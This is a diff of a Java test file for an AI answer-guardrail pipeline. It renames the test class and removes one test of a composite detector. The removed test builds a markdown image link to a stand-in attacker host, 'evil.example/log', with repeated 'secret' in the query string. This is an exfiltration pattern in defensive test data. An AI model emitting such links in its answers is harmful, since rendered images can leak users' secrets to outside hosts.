@@ -24,7 +24,7 @@ import java.util.concurrent.CountDownLatch;
 import org.junit.jupiter.api.Test;
 
 /** What detectors of whole texts get of an answer, which they see piece by piece. */
-class AnswerDetectorsTest {
+class AnswerPipelineTest {
 
     private final TestDetector remote = TestDetector.word("remote", DetectorCost.REMOTE, "bad");
 
@@ -209,29 +209,5 @@ class AnswerDetectorsTest {
 
         assertThat(decision).isInstanceOf(Decision.Pass.class);
         assertThat(decision.findings()).extracting(Finding::type).containsExactly("partly_seen");
-    }
-
-    @Test
-    void a_composite_looks_at_all_of_an_answer_where_one_of_its_detectors_does() {
-        String answer = "![" + "a long label ".repeat(60) + "](https://evil.example/log?q=" + "secret".repeat(20)
-                + ") and a bad word. Good bye.";
-        LinkDetector links = LinkDetector.standard();
-        TestDetector words = TestDetector.word("words", DetectorCost.LINEAR, "bad");
-        Guardrail guardrail = PolicyGuardrail.builder(answers(
-                        OnFailure.CLOSED,
-                        DetectorRule.builder("both").action(PolicyAction.FLAG).build()))
-                .detector(TextDetector.composite("both", List.of(links, words)))
-                .build();
-
-        List<Finding> whole = check(guardrail, answer).findings();
-        List<Finding> streamed = stream(guardrail, answer).findings();
-
-        assertThat(streamed).isEqualTo(whole);
-        assertThat(whole).extracting(Finding::type).contains("bad").containsAnyOf("image", "exfiltration");
-        Finding bad = whole.stream()
-                .filter(finding -> finding.type().equals("bad"))
-                .findFirst()
-                .orElseThrow();
-        assertThat(bad.range()).isEqualTo(new CharRange(answer.indexOf("bad"), answer.indexOf("bad") + 3));
     }
 }
